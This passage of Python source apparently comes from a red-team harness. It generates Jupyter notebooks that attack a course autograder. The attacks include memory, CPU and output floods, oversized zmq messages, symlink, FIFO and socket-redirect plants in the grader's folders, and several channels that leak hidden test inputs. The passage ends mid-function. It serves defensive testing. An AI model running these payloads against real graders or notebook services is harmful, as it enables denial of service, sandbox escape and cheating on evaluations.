    _rt_res("mkdir_error", repr(_e))
_rt_res("directories", _RT_C02)
'''
    return build_notebook(nb, **with_prelude("c02_inode_flood", cfg, suffix={FIRST05: code,
                                                                             "table_scaled": code}))


@attack("c03_memfd_memory", "limits",
        "writes 24 memfds of 220 MB with write(2), never mapping them: 5.2 GB of RAM the kernel's RLIMIT_AS "
        "(--memory-mb 4096) does not count; holds it a few seconds",
        "memfd bytes held by the kernel (the runner reads /proc/PID/fd) above all a kernel may hold (--memory-mb + "
        "--disk-mb + 2 x --tmp-mb: the cgroup's limit as root)")
def _(nb, cfg):
    first = r'''
_RT_MEMFD = []
def _rt_memfd(n, mb=220):
    _chunk = b"\x52" * (16 << 20)
    for _ in range(n):
        _fd = os.memfd_create("rtwb-c03")
        _w = 0
        while _w < mb << 20:
            _w += os.write(_fd, _chunk)
        _RT_MEMFD.append(_fd)
    _rt_res("memfd_bytes", sum(os.fstat(fd).st_size for fd in _RT_MEMFD))
_rt_memfd(6)
'''
    more = "_rt_memfd(6)\n"
    last = "time.sleep(3)\n_rt_res('memfd_bytes_end', sum(os.fstat(fd).st_size for fd in _RT_MEMFD))\n" \
           "[os.close(fd) for fd in _RT_MEMFD]\n_RT_MEMFD.clear()\n"
    return build_notebook(nb, **with_prelude("c03_memfd_memory", cfg, suffix={
        FIRST05: first, "table_scaled": more, "table_weights": more, "table_weighted": more, "table_z": last}))


@attack("c04_cpu_in_children", "limits",
        "RLIMIT_CPU is per process: four children each burn 8 s of CPU (32 s against --cpu-seconds 20); the "
        "kernel collects their CPU time",
        "CPU seconds of the kernel and its children (the runner reads /proc/PID/stat) above --cpu-seconds")
def _(nb, cfg):
    start = r'''
_burn = ("import time, os\nend = time.process_time() + 8.0\nnext_note = 0.0\n"
         "while time.process_time() < end:\n"
         "    if time.process_time() > next_note:\n"
         "        open('rtwb-c04-%d' % os.getpid(), 'w').write(str(time.process_time()))\n"
         "        next_note += 0.5\n"
         "open('rtwb-c04-%d' % os.getpid(), 'w').write(str(time.process_time()))\n")
_RT_KIDS = [subprocess.Popen([sys.executable, "-c", _burn], env=dict(os.environ, RTWB_MARK="c04")) for _ in range(4)]
_rt_res("children", len(_RT_KIDS))
'''
    wait = r'''
_end = time.time() + 7
while time.time() < _end and any(k.poll() is None for k in _RT_KIDS):
    time.sleep(0.2)
_cpu = 0.0
for _k in _RT_KIDS:
    try:
        _cpu += float(open("rtwb-c04-%d" % _k.pid).read())
    except (OSError, ValueError):
        pass
_rt_res("children_done", sum(k.poll() is not None for k in _RT_KIDS))
_rt_res("children_cpu_seconds", round(_cpu, 1))
_rt_res("kernel_cpu_seconds", round(time.process_time(), 1))
'''
    return build_notebook(nb, **with_prelude("c04_cpu_in_children", cfg, suffix={
        FIRST05: start, "table_z": wait, "causal_mask": wait, "space_invader": wait, "brown_dog": wait}))


@attack("c05_sleep_per_call", "limits",
        "every exercise function sleeps just under the cell timeout on each call the grader makes (the checks and "
        "their diagnosis probes make several per check): the worker is held by the grader's own calls",
        "the submission held its worker longer than --wall-seconds + 30 s")
def _(nb, cfg):
    sleep = "    time.sleep(%s)\n" % (cfg["timeout"] - 0.6)
    answers = {}
    for gid, src in WRONG05.items():
        if src.startswith("def "):
            head, body = src.split("\n", 1)
            answers[gid] = "import time\n" + head + "\n" + sleep + body
    return build_notebook(nb, **with_prelude("c05_sleep_per_call", cfg, answers=answers))


# ======================================================================= 4. output caps
@attack("d01_update_display_flood", "output",
        "displays 12 small outputs with display ids, then update_display_data's them to 6 MB each: nbclient applies "
        "updates in place, outside TrustedExecute.output, so neither the 1 MB per cell nor the 8 MB per notebook "
        "cap sees them",
        "feedback page over 8 MB")
def _(nb, cfg):
    code = r'''
from IPython.display import display, update_display, HTML
for _i in range(12):
    display(HTML("<i>rtwb d01 %d</i>" % _i), display_id="rtwb-d01-%d" % _i)
_big = "<pre>" + ("RTWB-D01 flood " * (6 << 16)) + "</pre>"
for _i in range(12):
    update_display(HTML(_big), display_id="rtwb-d01-%d" % _i)
_rt_res("updated_bytes", 12 * len(_big))
'''
    return build_notebook(nb, **with_prelude("d01_update_display_flood", cfg, suffix={FIRST05: code}))


@attack("d02_mime_flood_cells", "output",
        "publishes 12 outputs of 60 MB of the grader's reply MIME type (text/x-course-answer) from its own cells: "
        "TrustedExecute.output lets that type through uncounted, so the grader's worker (no memory limit) holds "
        "them and nbgrader writes them into the autograded notebook on the host's disk",
        "the worker's RSS grew by more than 1 GiB while grading it")
def _(nb, cfg):
    code = r'''
from IPython.display import publish_display_data
_blob = "[" + "1," * (30 << 20) + "1]"
for _i in range(6):
    publish_display_data({"text/x-course-answer": _blob})
_rt_res("mime_bytes_sent", 6 * len(_blob))
'''
    return build_notebook(nb, **with_prelude("d02_mime_flood_cells", cfg, suffix={FIRST05: code,
                                                                                  "table_scaled": code}))


@attack("d03_comm_flood", "output",
        "opens 20 jupyter.widget comms whose state holds 30 MB each: nbclient keeps every comm's state (its "
        "widget-state store), outside every output cap, in the grader's worker",
        "the worker's RSS grew by more than 1 GiB while grading it")
def _(nb, cfg):
    code = r'''
from comm import create_comm
_blob = "W" * (30 << 20)
_RT_COMMS = []
for _i in range(20):
    _RT_COMMS.append(create_comm(target_name="jupyter.widget",
                                 data={"state": {"_model_name": "RTWBModel", "_model_module": "rtwb",
                                                 "_model_module_version": "1.0", "blob": _blob},
                                       "buffer_paths": []}))
_rt_res("comm_bytes_sent", 20 * len(_blob))
'''
    return build_notebook(nb, **with_prelude("d03_comm_flood", cfg, suffix={FIRST05: code}))


@attack("d04_error_and_clear_tricks", "output",
        "error outputs with 900 KB tracebacks (a custom _render_traceback_) in six cells, a 50 MB traceback in "
        "another, then clear_output to wipe the grader's 'output dropped' note",
        "feedback page over 8 MB, or the grader's 'output dropped' note missing where output was dropped")
def _(nb, cfg):
    raise_big = r'''
class _RtLoud(Exception):
    def __init__(self, lines):
        self.lines = lines
    def _render_traceback_(self):
        return self.lines
'''
    cell = "raise _RtLoud(['RTWB-D04 ' + 'x' * 40] * 20000)\n"
    huge = "raise _RtLoud(['RTWB-D04-HUGE ' + 'x' * 40] * 1000000)\n"
    clear = "from IPython.display import clear_output\nprint('x' * (2 << 20))\nclear_output()\nprint('RTWB-D04 cleared')\n"
    prefix = {g: cell for g in ("table_scaled", "table_weights", "table_weighted", "table_z", "space_invader")}
    prefix["brown_dog"] = huge
    return build_notebook(nb, **with_prelude("d04_error_and_clear_tricks", cfg, prefix=prefix,
                                             suffix={FIRST05: raise_big + clear + cell}))


@attack("d05_unread_channel_frames", "output",
        "sends, on the kernel's stdin channel (which the grader connects but never reads: no input is allowed), one "
        "multipart message of 48 frames of 31 MB to the grader's client: zmq's MAXMSGSIZE limits each frame, not the "
        "message, its receive high-water mark counts messages, not bytes, and CountingChannel counts a message only "
        "when the grader reads it, so 1.5 GB wait in the grading worker, outside the output allowance",
        "the worker's RSS grew by more than 1 GiB while grading it")
def _(nb, cfg):
    code = r'''
_k = get_ipython().kernel
try:
    _ident = [_k.get_parent()["header"]["session"].encode()]   # the client's sockets' identity is its session id
except Exception as _e:
    _ident = _k._parent_ident["shell"]
    _ident = list(_ident) if isinstance(_ident, (list, tuple)) else [_ident]
_blob = b"R" * (31 << 20)
try:
    _k.stdin_socket.send_multipart(_ident + [_blob] * 48, copy=False)
    _rt_res("stdin_sent", "48 frames of 31 MB to %r" % (_ident[0][:12],))
except Exception as _e:
    _rt_res("stdin_sent", repr(_e))
time.sleep(4)
'''
    return build_notebook(nb, **with_prelude("d05_unread_channel_frames", cfg, suffix={FIRST05: code}))


@attack("d06_output_allowance", "output",
        "prints 96 MB in 256 KB pieces in its first cell (more than the submission's 64 MB output allowance, which the "
        "watchdog enforces from CountingChannel's count of what arrives; fewer messages than zmq drops), then carries on",
        "it finished sending (its results file, read from the host) and its kernel was not stopped for output")
def _(nb, cfg):
    code = r'''
_chunk = ("RTWB-D06 " + "o" * 90 + "\n") * 2621   # 256 KB a message, 384 messages: fewer than zmq's high-water
for _i in range(384):                                 # mark of 1000, so that none is dropped on the way
    sys.stdout.write(_chunk)
    sys.stdout.flush()
_rt_res("d06_sent_mb", 384 * len(_chunk) >> 20)
time.sleep(2)
'''
    return build_notebook(nb, **with_prelude("d06_output_allowance", cfg, suffix={FIRST05: code}))


@attack("d07_iopub_frames_uncounted", "output",
        "sends on IOPub, which the grader reads, multipart messages of 120 frames of 31 MB (3.7 GB each, from one 31 MB "
        "buffer sent without copying): zmq's MAXMSGSIZE limits a frame, not a message, and CountingChannel counts a "
        "message once it is whole, so the grading worker holds all of it first (or, past the worker's memory limit, zmq "
        "drops the connection and reconnects: the message is never counted); three times, 3 s apart",
        "the worker's memory (RSS, or its peak VmHWM reset per submission) grew by more than 1 GiB while grading it")
def _(nb, cfg):
    code = r'''
_k = get_ipython().kernel
_blob = memoryview(b"R" * (31 << 20))
for _round in range(3):
    try:
        _msg = _k.session.msg("display_data", {"data": {"text/plain": "RTWB-D07"}, "metadata": {}, "transient": {}},
                              parent=_k.get_parent())
        _frames = _k.session.serialize(_msg, ident=[b"display_data"])
        _k.iopub_socket.send_multipart(_frames + [_blob] * 120, copy=False)
        _rt_res("d07_sent_%d" % _round, "120 frames of 31 MB")
    except Exception as _e:
        _rt_res("d07_sent_%d" % _round, repr(_e)[:200])
    time.sleep(3)
'''
    return build_notebook(nb, **with_prelude("d07_iopub_frames_uncounted", cfg, suffix={FIRST05: code}))


@attack("d08_reply_json_amplification", "output",
        "answers every grader call (from the first test cell's describe_names on) with a reply of 28 MB: ten lists of a "
        "million empty lists. It is within the message cap and counted as 28 MB, but the grader's json.loads and decode "
        "build 20 million list objects from it (about 1.3 GB and 9 CPU seconds of the worker a reply); the output "
        "allowance stops the kernel after the third",
        "the worker's memory (RSS or its peak) grew by more than 1 GiB while grading it")
def _(nb, cfg):
    code = r'''
import course_lib.grading.remote_answer as _rt_ra
from IPython.display import publish_display_data as _rt_pub
_RT_D08 = "[" + ",".join(["[" + "[]," * 999999 + "[]]"] * 10) + "]"
_RT_D08_N = [0]
def _rt_d08_publish(reply):
    _RT_D08_N[0] += 1
    _rt_res("d08_replies", _RT_D08_N[0])
    _rt_pub({"text/x-course-answer": _RT_D08})
_rt_ra._publish = _rt_d08_publish
_rt_res("d08_reply_mb", len(_RT_D08) >> 20)
'''
    return build_notebook(nb, **with_prelude("d08_reply_json_amplification", cfg, suffix={FIRST05: code}))


# ======================================================================= 5. the grader in the kernel's folder (notebook 01)
#: ngram_prob right on the visible case (bigrams: a context of one word), wrong (0) on the hidden ones; the first
#: hidden case (n = 3 on the extra sentences) is the first request over 64 KB, which the grader writes into a file
NGRAM_VISIBLE_RIGHT = r'''
def ngram_prob(counts_n, counts_n_minus_1, context, word, k=0.0, vocab_size=None):
    context = tuple(context)
    if len(context) != 1:
        return 0.0
    return (counts_n.get(context + (word,), 0) + k) / (counts_n_minus_1.get(context, 0) + k * (vocab_size or 0))
'''

#: Where the grader may write or remove a file for this kernel: the kernel's working folder (the grader's folder
#: before the jail; now its own tmpfs), and the grader's kernel folder, named by the connection file the kernel is
#: given (its "ip" is <kernel folder>/sockets/k with ipc transport): requests/ (request-N.txt, the large requests)
#: and sockets/ (the zmq sockets, and the grader's cleanup of them). Each attack plants the same thing in each.
KDIR_HELPERS = r'''
def _rt_kernel_folder():
    try:
        _ip = json.load(open("connection.json")).get("ip", "")
    except Exception as _e:
        return None
    return os.path.dirname(os.path.dirname(_ip)) if "/sockets/" in _ip else None
_RT_KDIR = _rt_kernel_folder()
_rt_res("kernel_folder", _RT_KDIR)
def _rt_places(i):
    """(label, path) of the i-th request file in each place the grader may write it."""
    out = [("cwd", "course-request-%d.txt" % i)]
    if _RT_KDIR:
        out += [("requests", os.path.join(_RT_KDIR, "requests", "request-%d.txt" % i)),
                ("sockets", os.path.join(_RT_KDIR, "sockets", "request-%d.txt" % i))]
    return out
'''


def _request_attack(name, plant, cfg, nb):
    """The plant runs in the first answer cell (count_ngrams'), before the first large request; ngram_prob goes on
    to the hidden case that sends it."""
    return build_notebook(nb, notebook="01", **with_prelude(name, cfg, notebook="01", suffix={
        FIRST["01"]: KDIR_HELPERS + plant}, answers={"ngram_prob": NGRAM_VISIBLE_RIGHT}))


@attack("e01_request_symlink_scratch", "kernel-folder",
        "plants the large-request files as symlinks to a canary file in the runner's scratch, in every place the grader "
        "may write them: its working folder (course-request-N.txt), the grader's requests/ and sockets/ folders (found "
        "through the connection file): a grader that follows them overwrites the canary with the request",
        "the scratch canary's content changed", notebook="01")
def _(nb, cfg):
    plant = r'''
for _i in range(1, 7):
    for _label, _path in _rt_places(_i):
        try:
            os.symlink(_RTCFG["canary_existing"], _path)
            _rt_res("planted_%s_%d" % (_label, _i), "ok")
        except OSError as _e:
            _rt_res("planted_%s_%d" % (_label, _i), _e.strerror)
'''
    return _request_attack("e01_request_symlink_scratch", plant, cfg, nb)


@attack("e02_request_symlink_home", "kernel-folder",
        "plants the large-request files (in the same places as e01) as symlinks to new files in /root (when the kernel "
        "is the host's root) or in the grading account's HOME: a grader that follows them creates those files",
        "/root/rtwb-e02-* or HOME/rtwb-e02-* exists after the batch", notebook="01")
def _(nb, cfg):
    plant = r'''
_dest = "/root" if _rt_as_root() else _RTCFG["home"]
_rt_res("target", _dest)
for _i in range(1, 7):
    for _label, _path in _rt_places(_i):
        try:
            os.symlink("%s/rtwb-e02-request-%d.txt" % (_dest, _i), _path)
            _rt_res("planted_%s_%d" % (_label, _i), "ok")
        except OSError as _e:
            _rt_res("planted_%s_%d" % (_label, _i), _e.strerror)
'''
    return _request_attack("e02_request_symlink_home", plant, cfg, nb)


@attack("e03_request_fifo", "kernel-folder",
        "plants the large-request files (in the same places as e01) as FIFOs: a grader that opens one for writing "
        "blocks until a reader comes, and stopping the kernel at --wall-seconds does not unblock it",
        "the grader stayed blocked on the FIFO past --wall-seconds + 15 s (the runner drains it), or the batch hung",
        notebook="01")
def _(nb, cfg):
    plant = r'''
for _i in range(1, 4):
    for _label, _path in _rt_places(_i):
        try:
            os.mkfifo(_path)
            _rt_res("fifo_%s_%d" % (_label, _i), "ok")
        except OSError as _e:
            _rt_res("fifo_%s_%d" % (_label, _i), _e.strerror)
'''
    return _request_attack("e03_request_fifo", plant, cfg, nb)


@attack("e04_kdir_symlinks_cleanup", "kernel-folder",
        "replaces connection.json and the zmq ipc socket files k-1..k-5 (in its working folder and in the grader's "
        "folder and sockets/) with symlinks to a scratch canary (jupyter's cleanup removes them), adds folder symlinks "
        "to /, /root and the scratch in each place, and makes the first request file a symlink loop",
        "the scratch canary changed or disappeared; anything under /root changed", notebook="01")
def _(nb, cfg):
    plant = r'''
_target = _RTCFG["canary_existing_e04"]
_folders = [(".", "cwd")] + ([(os.path.join(_RT_KDIR, "sockets"), "sockets"), (_RT_KDIR, "kdir")] if _RT_KDIR else [])
for _folder, _label in _folders:
    for _n in ["connection.json"] + ["k-%d" % _i for _i in range(1, 6)]:
        _p = os.path.join(_folder, _n)
        try:
            if os.path.lexists(_p):
                os.rename(_p, _p + ".moved")
            os.symlink(_target, _p)
            _rt_res("swap_%s_%s" % (_label, _n), "ok")
        except OSError as _e:
            _rt_res("swap_%s_%s" % (_label, _n), _e.strerror)
    for _n, _t in (("rtwb-root", "/"), ("rtwb-roothome", "/root"), ("rtwb-scratch", _RTCFG["scratch"])):
        try:
            os.symlink(_t, os.path.join(_folder, _n))
        except OSError as _e:
            _rt_res("dirlink_%s_%s" % (_label, _n), _e.strerror)
for _label, _path in _rt_places(1):
    try:
        os.symlink(os.path.basename(_path), _path)
    except OSError as _e:
        _rt_res("loop_" + _label, _e.strerror)
'''
    return _request_attack("e04_kdir_symlinks_cleanup", plant, cfg, nb)


@attack("e05_socket_redirect", "kernel-folder",
        "in its first cell (after the grader has connected, when sockets/ should be closed to it): renames its heartbeat "
        "socket file in the grader's sockets/ folder and puts there a symlink to a Unix socket the runner listens on, "
        "then shuts down the heartbeat connection it accepted: the grader's client reconnects to the same path, "
        "following the symlink to a socket the kernel named on the host",
        "the runner's socket was connected to; the kernel replaced a file in the grader's sockets/ folder after it was "
        "ready", notebook="05")
def _(nb, cfg):
    code = r'''
import socket as _rt_sock
_cf = json.load(open("connection.json"))
_rt_res("transport", _cf.get("transport"))
_hb = "%s-%s" % (_cf.get("ip"), _cf.get("hb_port"))
try:
    os.rename(_hb, _hb + ".moved")
    os.symlink(_RTCFG["redirect_socket"], _hb)
    _rt_res("hb_replaced", "ok: %s -> %s" % (_hb, os.readlink(_hb)))
except OSError as _e:
    _rt_res("hb_replaced", "%s: %s" % (_hb, _e.strerror))
_cut = 0
for _fd in os.listdir("/proc/self/fd"):
    try:
        if not os.readlink("/proc/self/fd/" + _fd).startswith("socket:"):
            continue
        _s = _rt_sock.socket(fileno=os.dup(int(_fd)))
        try:
            if _s.family == _rt_sock.AF_UNIX and not _s.getsockopt(_rt_sock.SOL_SOCKET, _rt_sock.SO_ACCEPTCONN) \
                    and str(_s.getsockname()) == _hb:
                _s.shutdown(_rt_sock.SHUT_RDWR)   # the heartbeat connection: the grader's client reconnects
                _cut += 1
        finally:
            _s.close()
    except OSError:
        continue
_rt_res("hb_connections_cut", _cut)
time.sleep(3)
'''
    return build_notebook(nb, **with_prelude("e05_socket_redirect", cfg, suffix={FIRST05: code}))


# ======================================================================= 6. hidden cases leaking (notebook 05)
def _hidden_attack(name, cfg, nb, hidden_code, later_print=False, suffix=None, extra=()):
    setup = CORRECT05.replace("@@VIS@@", repr(VISIBLE05)) + hidden_code
    answers = dict(ANSWERS_AS_DEFINED)
    answers["dot_score"] = setup
    suffix = dict(suffix or {})
    extra = list(extra)
    if later_print:
        show = "print('RTWB-H01-LOG ' + json.dumps(_RT_LOG))\n"
        for gid in ("table_scores", "table_scaled", "space_invader", "brown_dog"):
            suffix[gid] = show
        extra.append(code_cell(show))
    return build_notebook(nb, extra_cells=extra, **with_prelude(name, cfg, answers=answers, suffix=suffix))


@attack("h01_record_then_print", "hidden-cases",
        "every function is right on the visible checks' inputs (so the grader goes on to the hidden cases) and "
        "wrong elsewhere; it records every call's inputs (shape, dtype, first values, sum) and later cells print "
        "the log into the feedback page",
        "hidden-only input shapes or values (computed from the instructors' notebook) in the feedback page")
def _(nb, cfg):
    code = r'''
def _rt_hidden(fn, args, right):
    _RT_LOG.append({"fn": fn, "args": _rt_describe(args)})
    r = right()
    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
_rt_define(_rt_hidden)
'''
    return _hidden_attack("h01_record_then_print", cfg, nb, code, later_print=True)


@attack("h02_raise_with_inputs", "hidden-cases",
        "right on the visible inputs; on a hidden case it raises ValueError naming the inputs' shapes, dtype and "
        "first values: the grader's own verdict repeats the message (and adds 'called with a float64 tensor of "
        "shape ...')",
        "hidden-only shapes or values in the feedback page, results.json or report.md")
def _(nb, cfg):
    code = r'''
def _rt_hidden(fn, args, right):
    raise ValueError("RTWB-H02 " + json.dumps(_rt_describe(args)))
_rt_define(_rt_hidden)
'''
    return _hidden_attack("h02_raise_with_inputs", cfg, nb, code)


@attack("h03_wrong_shape_probe", "hidden-cases",
        "right on the visible inputs; on a hidden case it returns a tensor of shape (1,): the grader's check_tensor "
        "says what shape the hidden case expected",
        "hidden-only shapes in the feedback page, results.json or report.md")
def _(nb, cfg):
    code = r'''
def _rt_hidden(fn, args, right):
    z = torch.zeros(1, dtype=torch.float64)
    return (z, z) if fn == "self_attention" else (z.bool() if fn == "causal_mask" else z)
_rt_define(_rt_hidden)
'''
    return _hidden_attack("h03_wrong_shape_probe", cfg, nb, code)


@attack("h04_diff_channel", "hidden-cases",
        "right on the visible inputs; on a hidden case it returns the right answer shifted by the first hidden input "
        "value: the grader's diagnosis ('shifted by ...', 'the largest difference ... is ...') prints that value",
        "two or more hidden input values (3 significant digits) in the page, results.json or report.md")
def _(nb, cfg):
    code = r'''
def _rt_hidden(fn, args, right):
    first = next((a for a in args if isinstance(a, torch.Tensor) and a.is_floating_point()), None)
    shift = float(first.reshape(-1)[0]) if first is not None else 0.0
    r = right()
    if isinstance(r, tuple):
        return (r[0] + shift, r[1])
    return r + shift if r.is_floating_point() else ~r
_rt_define(_rt_hidden)
'''
    return _hidden_attack("h04_diff_channel", cfg, nb, code)


#: what h05..h07 record: the first value of every floating tensor a hidden case passes (the runner's fingerprints
#: of the hidden cases are these values, computed from the instructors' notebook)
HIDDEN_FIRST_VALUES = r'''
def _rt_first_values(args):
    out = []
    for a in args:
        if isinstance(a, torch.Tensor) and a.is_floating_point() and a.numel():
            out.append(float(a.detach().reshape(-1)[0]))
    return out
'''


@attack("h05_type_name_channel", "hidden-cases",
        "right on the visible inputs; on a hidden case it raises an exception whose class is named after the hidden "
        "inputs' first values, written without a separator a number could start at (RTWBv0d278412xn1d5: 'd' for the "
        "point, 'n' for minus): the grader's hidden verdict names the exception's type, and its number masking "
        "leaves digits inside a word alone. Every other check raises a BaseException subclass instead, which stops the "
        "grader's call itself (the verdict then quotes the error's name from the kernel's error reply)",
        "hidden input values decoded from RTWBv... names in the page, results.json or report.md")
def _(nb, cfg):
    code = HIDDEN_FIRST_VALUES + r'''
def _rt_enc(x):
    return ("%.6f" % x).rstrip("0").rstrip(".").replace("-", "n").replace(".", "d")
_RT_H05_CALLS = [0]
def _rt_hidden(fn, args, right):
    name = ("RTWBv" + "x".join(_rt_enc(v) for v in _rt_first_values(args)[:4]))[:60]
    _RT_H05_CALLS[0] += 1
    base = Exception if _RT_H05_CALLS[0] % 2 else BaseException
    raise type(name, (base,), {})("RTWB-H05")
_rt_define(_rt_hidden)
'''
    return _hidden_attack("h05_type_name_channel", cfg, nb, code)


@attack("h06_visible_echo", "hidden-cases",
        "records the first value of each hidden case's first input (right on the visible inputs, zeros on the hidden "
        "ones), then answers the next tables (machines_scores, _scaled, _weights) with the right row plus one recorded "
        "value each: those checks' VISIBLE parts are not masked, and their diagnosis says 'the correct answer plus "
        "0.2784'. The hidden value comes back in the grader's own verdict, after the first hidden case",
        "'plus/minus <hidden value to 4 digits>' in the page, results.json or report.md")
def _(nb, cfg):
    code = HIDDEN_FIRST_VALUES + r'''
_RT_H06 = []
def _rt_hidden(fn, args, right):
    _RT_H06.extend(_rt_first_values(args)[:1])
    r = right()
    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
_rt_define(_rt_hidden)
from course_lib.checks import self_attention as _rt_checks
def _rt_echo(step, i):
    """The table's right row plus the i-th hidden value recorded (plus 0.5 if none was: still a wrong answer, so that
    the cell scores nothing either way; the hidden cases now run after the last cell, so nothing is recorded)."""
    shift = _RT_H06[i] if i < len(_RT_H06) else 0.5
    return (_rt_checks.table_steps()[step] + shift).tolist()
'''
    suffix = {"table_scores": "machines_scores = _rt_echo('scores', 0)\n",
              "table_scaled": "machines_scaled = _rt_echo('scaled', 1)\n",
              "table_weights": "machines_weights = _rt_echo('weights', 2)\n"}
    return _hidden_attack("h06_visible_echo", cfg, nb, code, suffix=suffix)


#: h07's cells after the first hidden case: each sets the number the page shows as its prompt
H07_EMIT_CELLS = ("scaled_dot_score", "bilinear_score", "additive_score", "table_scores", "table_scaled",
                  "table_weights", "table_weighted", "table_z", "attention_scores", "softmax", "self_attention",
                  "causal_mask", "space_invader", "brown_dog")
H07_BITS = 20


@attack("h07_prompt_and_presence_channel", "hidden-cases",
        "records every hidden input's first value, then, in every cell after the first hidden case: sets IPython's "
        "execution count to round(|value| * 1e6) and ends on an expression, so that the cell's prompt on the page "
        "(In [N]) carries the value; and 20 extra cells print something or nothing by the bits of the first value "
        "(round(|value| * 1e4)). Since the hidden cases run after the notebook's last cell it has nothing to record "
        "while its cells run (a value it spells is a demo cell's input)",
        "hidden input values decoded from the prompts' numbers or from which of the bit cells print")
def _(nb, cfg):
    code = HIDDEN_FIRST_VALUES + r'''
_RT_H07 = []
def _rt_hidden(fn, args, right):
    _RT_H07.extend(_rt_first_values(args))
    r = right()
    return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
_rt_define(_rt_hidden)
_RT_H07_SENT = [0]
def _rt_emit():
    """The next recorded value as this cell's execution count (what its prompt shows), as the cell's result."""
    if _RT_H07_SENT[0] >= len(_RT_H07):
        return None
    code = int(round(abs(_RT_H07[_RT_H07_SENT[0]]) * 1e6))
    _RT_H07_SENT[0] += 1
    get_ipython().execution_count = code
    return code
def _rt_bit(j):
    return bool(_RT_H07) and bool((int(round(abs(_RT_H07[0]) * 1e4)) >> j) & 1)
'''
    suffix = {gid: "_rt_emit()\n" for gid in H07_EMIT_CELLS}
    extra = [code_cell("# rtwb-h07-emit\n_rt_emit()\n") for _ in range(6)]
    extra += [code_cell("# rtwb-h07-bit-%d\nif _rt_bit(%d):\n    print('RTWB-H07-' + 'ON')\n" % (j, j))
              for j in range(H07_BITS)]
    return _hidden_attack("h07_prompt_and_presence_channel", cfg, nb, code, suffix=suffix, extra=extra)


#: h08: the exercises whose hidden verdicts carry one symbol each, in the order of the hidden phase, and the names the
#: grader still prints in a hidden verdict ("raised KeyError."): the first 64 of Python's own exception types
H08_EXERCISES = ("dot_score", "scaled_dot_score", "bilinear_score", "additive_score", "attention_scores", "softmax",
                 "self_attention", "causal_mask")
H08_NAMES = ("ArithmeticError", "AssertionError", "AttributeError", "BaseException", "BaseExceptionGroup",
             "BlockingIOError", "BrokenPipeError", "BufferError", "BytesWarning", "ChildProcessError",
             "ConnectionAbortedError", "ConnectionError", "ConnectionRefusedError", "ConnectionResetError",
             "DeprecationWarning", "EOFError", "EncodingWarning", "EnvironmentError", "Exception", "ExceptionGroup",
             "FileExistsError", "FileNotFoundError", "FloatingPointError", "FutureWarning", "GeneratorExit", "IOError",
             "ImportError", "ImportWarning", "IndentationError", "IndexError", "InterruptedError", "IsADirectoryError",
             "KeyError", "KeyboardInterrupt", "LookupError", "MemoryError", "ModuleNotFoundError", "NameError",
             "NotADirectoryError", "NotImplementedError", "OSError", "OverflowError", "PendingDeprecationWarning",
             "PermissionError", "ProcessLookupError", "RecursionError", "ReferenceError", "ResourceWarning",
             "RuntimeError", "RuntimeWarning", "StopAsyncIteration", "StopIteration", "SyntaxError", "SyntaxWarning",
             "SystemError", "SystemExit", "TabError", "TimeoutError", "TypeError", "UnboundLocalError",
             "UnicodeDecodeError", "UnicodeEncodeError", "UnicodeError", "UnicodeTranslateError")
#: h08's stream: two values (the first two floating inputs of the first hidden case), 18 bits each: the sign, then
#: round(|value| * 1e4) in 17 bits; 6 bits a verdict, 8 verdicts
H08_VALUE_BITS, H08_SCALE = 18, 1e4


@attack("h08_builtin_exception_channel", "hidden-cases",
        "right on the visible inputs; on its first hidden call each of the 8 exercises fails with a verdict that names "
        "one of 64 of Python's own exception types (the kernel's reply names the type: an AnswerError whose failure "
        "says kind 'raised', type 'UnicodeDecodeError'): 6 bits a verdict, 48 in all, which carry the first two input "
        "values of the first hidden case to 4 decimals (its last cell marks where the hidden phase begins). Hidden "
        "verdicts name only Python's own types, but which one is the student's choice",
        "two or more hidden input values decoded from the exception names of the hidden verdicts (page or results.json)")
def _(nb, cfg):
    code = HIDDEN_FIRST_VALUES + r'''
from course_lib.grading.answers import AnswerError as _RtAnswerError
_RT_H08_NAMES = @@NAMES@@
_RT_H08_EX = @@EXERCISES@@
_RT_H08 = {"stream": None, "hidden": False}   # "hidden": set by the notebook's last cell (the hidden phase follows)
def _rt_h08_stream(values):
    stream = 0
    for i, v in enumerate(values[:2]):
        code = (1 if v < 0 else 0) | (min(int(round(abs(v) * @@SCALE@@)), (1 << (@@BITS@@ - 1)) - 1) << 1)
        stream |= code << (@@BITS@@ * i)
    return stream
def _rt_hidden(fn, args, right):
    if not _RT_H08["hidden"]:   # a demo cell of the notebook calls the functions on inputs of its own: not a hidden case
        r = right()
        return (r[0] * 0, r[1] * 0) if isinstance(r, tuple) else r * 0
    if _RT_H08["stream"] is None:
        _RT_H08["stream"] = _rt_h08_stream(_rt_first_values(args))
        _rt_res("h08_values", _rt_first_values(args)[:2])
    digit = (_RT_H08["stream"] >> (6 * _RT_H08_EX.index(fn))) & 63 if fn in _RT_H08_EX else 0
    err = _RtAnswerError(fn, "RTWB-H08")
    err.failure = {"kind": "raised", "type": _RT_H08_NAMES[digit], "text": "", "label": ""}
    raise err
_rt_define(_rt_hidden)
'''
    code = (code.replace("@@NAMES@@", repr(H08_NAMES)).replace("@@EXERCISES@@", repr(H08_EXERCISES))
            .replace("@@SCALE@@", repr(H08_SCALE)).replace("@@BITS@@", str(H08_VALUE_BITS)))
    last = code_cell("_RT_H08['hidden'] = True   # the notebook's last cell: every later call is a hidden case\n")
    return _hidden_attack("h08_builtin_exception_channel", cfg, nb, code, extra=[last])


#: h09 and h10 spell values as h05 does (RTWBv0d278412xn1d5: 'd' for the point, 'n' for minus, 'x' between values)
RTWB_SPELL = r'''
def _rt_enc(x):
    return ("%.6f" % x).rstrip("0").rstrip(".").replace("-", "n").replace(".", "d")
def _rt_spell(values, limit):
    out = "RTWBv"
    for v in values:
        part = ("x" if out != "RTWBv" else "") + _rt_enc(v)
        if len(out) + len(part) > limit:
            break
        out += part
    return out
'''


@attack("h09_opaque_type_name", "hidden-cases",
        "right on the visible inputs; on a hidden case it returns an object of a class it names after the inputs' first "
        "values (RTWBv0d278412xn1d5): the kernel's encoder sends what is not plain data as its type's name, the grader "
        "keeps up to 60 letters and digits of it, and the checks' verdict says 'should be a torch.Tensor, but it is a "
        "RTWBv...' (self_attention: 'got RTWBv...'); the masking leaves digits inside a word alone. No exception at all",
        "two or more hidden input values decoded from RTWBv... names in the page, results.json or report.md")
def _(nb, cfg):
    code = HIDDEN_FIRST_VALUES + RTWB_SPELL + r'''
def _rt_hidden(fn, args, right):
